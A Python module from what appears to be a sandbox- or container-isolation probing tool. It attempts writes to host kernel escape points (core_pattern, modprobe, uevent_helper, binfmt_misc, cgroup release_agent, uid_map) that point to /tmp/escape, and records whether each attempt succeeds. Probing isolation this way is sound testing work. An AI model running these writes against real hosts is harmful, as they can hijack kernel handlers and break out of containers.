"""Settings of the kernel, and control groups, whose agents the kernel runs outside of every namespace."""

import os

from burglar.tools import call, outcome, tell, write

GROUPS = ("", "memory", "rdma", "cpu", "unified", "systemd")


def group(name):
    os.mkdir("/sys/fs/cgroup/%s/escape" % name)


tell("settings", {
    "core_pattern": write("/proc/sys/kernel/core_pattern", "|/tmp/escape\n"),
    "modprobe": write("/proc/sys/kernel/modprobe", "/tmp/escape\n"),
    "hostname": write("/proc/sys/kernel/hostname", "escape\n"),
    "sysrq": write("/proc/sysrq-trigger", "h\n"),
    "uevent_helper": write("/sys/kernel/uevent_helper", "/tmp/escape\n"),
    "binfmt_misc": write("/proc/sys/fs/binfmt_misc/register", ":escape:M::E::/tmp/escape:\n"),
    "firmware": write("/sys/module/firmware_class/parameters/path", "/tmp\n"),
    "uid_map": write("/proc/self/uid_map", "0 0 1\n"),
    "first's uid_map": write("/proc/1/uid_map", "0 0 1\n"),
    "oom_score_adj": write("/proc/self/oom_score_adj", "-1000\n"),
    "sethostname": call("sethostname", b"escape", 6),
    "setdomainname": call("setdomainname", b"escape", 6),
    **{"release_agent " + name: write("/sys/fs/cgroup/%s/release_agent" % name, "/tmp/escape\n") for name in GROUPS},
    **{"notify " + name: write("/sys/fs/cgroup/%s/notify_on_release" % name) for name in GROUPS},
    **{"procs " + name: write("/sys/fs/cgroup/%s/cgroup.procs" % name, "0\n") for name in GROUPS},
    **{"group " + name: outcome(group, name) for name in GROUPS},
})
